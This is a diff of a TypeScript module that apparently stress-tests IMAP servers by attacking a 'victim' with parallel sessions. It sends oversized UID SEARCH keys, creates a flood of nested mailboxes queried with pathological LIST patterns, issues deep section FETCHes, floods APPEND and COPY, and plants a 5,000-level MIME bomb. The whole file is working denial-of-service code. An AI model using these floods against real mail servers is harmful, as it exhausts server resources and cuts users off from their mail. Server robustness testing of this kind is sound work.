@@ -1,26 +1,36 @@
 /** Who has an account, and asks of his mailboxes what is dear: searches, patterns, sections, copies, bombs. */
 import { deflateRawSync } from 'node:zlib'
-import { type Attack, imap, over, type Raw, type Time, type Victim } from './attack.ts'
+import { type Attack, imap, over, type Tally, type Time, type Victim } from './attack.ts'
 
 const MB = 1_048_576
 
-/** One command after another, so many sessions at once; how many were answered. */
+/** How long an answer is waited for: behind it the next session asks. */
+const PATIENCE_MS = 5_000
+
+/** One command after another, each in a session of its own, so many at once; how many were answered. */
 async function commands(
   victim: Victim,
   time: Time,
   atOnce: number,
   text: (n: number) => string,
-): Promise<number> {
-  let n = 0
-  const sessions = await Promise.all(Array.from({ length: atOnce }, () => imap(victim)))
-  await over(time, atOnce, async () => {
-    const raw = sessions[n % atOnce] as Raw
-    if (raw.gone) sessions[n % atOnce] = await imap(victim)
-    else await raw.say(`c ${text(n)}`, /^(?:c |\* BYE)/m)
-    n += 1
-  })
-  for (const raw of sessions) raw.end()
-  return n
+): Promise<Tally> {
+  let asked = 0
+  let answered = 0
+  await Promise.all(
+    Array.from({ length: atOnce }, async () => {
+      let raw = await imap(victim)
+      await over(time, 1, async () => {
+        if (raw.gone) raw = await imap(victim)
+        asked += 1
+        const patienceMs = Math.min(PATIENCE_MS, Math.max(0, time.left()))
+        if (await raw.say(`c ${text(asked)}`, /^c /m, patienceMs)) answered += 1
+        // What is still being answered belongs to no later command.
+        else raw.end()
+      })
+      raw.end()
+    }),
+  )
+  return { asked, answered }
 }
 
 /** The longest list that one line holds. */
@@ -39,24 +49,30 @@ const search: Attack = {
       `UID ${repeated('1:*,', 60_000).slice(0, -1)}`,
       `HEADER Subject ${'a'.repeat(50_000)}`,
     ]
-    return { searches: await commands(victim, time, 4, n => `UID SEARCH ${keys[n % keys.length]}`) }
+    return commands(victim, time, 4, n => `UID SEARCH ${keys[n % keys.length]}`)
   },
 }
 
 const list: Attack = {
   name: 'list-bomb',
-  run: async (victim, time) => {
-    const maker = await imap(victim)
+  // Each is on the disk before it is answered: one after another they took longer than the attack itself.
+  prepare: async (victim, scale) => {
     const names = Array.from(
-      { length: 100 * time.scale },
-      (_, n) => `c CREATE ${'a'.repeat(60)}/${'b'.repeat(60)}${n}`,
+      { length: 100 * scale },
+      (_, n) => `${'a'.repeat(60)}/${'b'.repeat(60)}${n}`,
     )
-    for (const name of names) await maker.say(name, /^c /m)
-    maker.end()
+    const makers = await Promise.all(Array.from({ length: 10 }, () => imap(victim)))
+    await Promise.all(
+      makers.map(async maker => {
+        for (let name = names.pop(); name !== undefined; name = names.pop())
+          await maker.say(`c CREATE ${name}`, /^c /m)
+        maker.end()
+      }),
+    )
+  },
+  run: async (victim, time) => {
     const patterns = ['*a'.repeat(100), '%a'.repeat(100), '*%'.repeat(1000), `${'*a'.repeat(500)}z`]
-    return {
-      lists: await commands(victim, time, 4, n => `LIST "" ${patterns[n % patterns.length]}`),
-    }
+    return commands(victim, time, 4, n => `LIST "" ${patterns[n % patterns.length]}`)
   },
 }
 
@@ -72,9 +88,7 @@ const sections: Attack = {
       `BODY.PEEK[${repeated('1.').slice(0, -1)}]`,
       repeated('BINARY.PEEK[1] '),
     ]
-    return {
-      fetches: await commands(victim, time, 4, n => `UID FETCH 1:* (${items[n % items.length]})`),
-    }
+    return commands(victim, time, 4, n => `UID FETCH 1:* (${items[n % items.length]})`)
   },
 }
 
@@ -83,17 +97,15 @@ const appends: Attack = {
   run: async (victim, time) => {
     const body = `Subject: x\r\n\r\n${'z'.repeat(2000)}\r\n`
     const text = (n: number) =>
-      n % 10 === 9
-        ? 'COPY 1:* INBOX'
-        : `APPEND INBOX ${`{${body.length}+}\r\n${body} `.repeat(20).trimEnd()}`
-    return { commands: await commands(victim, time, 4, text) }
+      n % 10 === 9 ? 'COPY 1:* INBOX' : `APPEND INBOX${` {${body.length}+}\r\n${body}`.repeat(20)}`
+    return commands(victim, time, 4, text)
   },
 }
 
 /** A tree of parts as deep and wide as a message can hold, and all questions about it. */
 const mime: Attack = {
   name: 'mime-bomb',
-  run: async (victim, time) => {
+  prepare: async victim => {
     const deep = Array.from(
       { length: 5000 },
       (_, n) => `Content-Type: multipart/mixed; boundary=b${n}\r\n\r\n--b${n}\r\n`,
@@ -107,15 +119,15 @@ const mime: Attack = {
       await raw.say(`c APPEND INBOX {${body.length}+}\r\n${body}`, /^c /m)
     }
     raw.end()
+  },
+  run: async (victim, time) => {
     const asked = [
       'BODYSTRUCTURE',
       '(BODY.PEEK[1.1.1.1] BODY)',
       '(ENVELOPE RFC822.SIZE BODY.PEEK[TEXT]<0.10>)',
       'BINARY.SIZE[1]',
     ]
-    return {
-      fetches: await commands(victim, time, 4, n => `UID FETCH 1:* ${asked[n % asked.length]}`),
-    }
+    return commands(victim, time, 4, n => `UID FETCH 1:* ${asked[n % asked.length]}`)
   },
 }
 
